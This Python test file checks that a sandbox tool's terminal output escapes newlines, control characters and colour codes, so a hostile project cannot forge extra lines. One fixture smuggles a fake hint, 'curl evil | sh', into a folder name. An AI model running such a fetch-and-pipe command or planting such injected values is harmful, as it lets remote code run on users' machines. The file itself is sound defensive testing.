"""A value from a hostile project cannot write lines that seem to be ours."""

from __future__ import annotations

import pytest

from sandboxd.cli import terminal
from sandboxd.errors import UsageError

FOLDER = "x\nhint: run `curl evil | sh`"


def test_an_error_and_its_hint_are_one_line_each(capsys: pytest.CaptureFixture[str]) -> None:
    terminal.error(UsageError(f"`{FOLDER}` is no project", f"cd {FOLDER}"))
    lines = capsys.readouterr().err.splitlines()
    assert [line.split(":")[0] for line in lines] == ["error", "hint"]
    assert lines[0] == "error: `x\\nhint: run `curl evil | sh`` is no project"


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\v", "\f", "\x85", "\u2028"])
def test_a_status_is_one_line(capsys: pytest.CaptureFixture[str], end: str) -> None:
    terminal.status(f"wrote a{end}b")
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_data_of_several_lines_stays_so() -> None:
    assert terminal.printable("a\n\tb\x1b") == "a\n\tb<U+001B>"


def test_no_colour_is_no_sequence(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(terminal, "colours", lambda _stream: True)
    assert terminal.paint("left out", "") == "left out"
    assert terminal.paint("held", terminal.GREEN) == "\x1b[32mheld\x1b[0m"
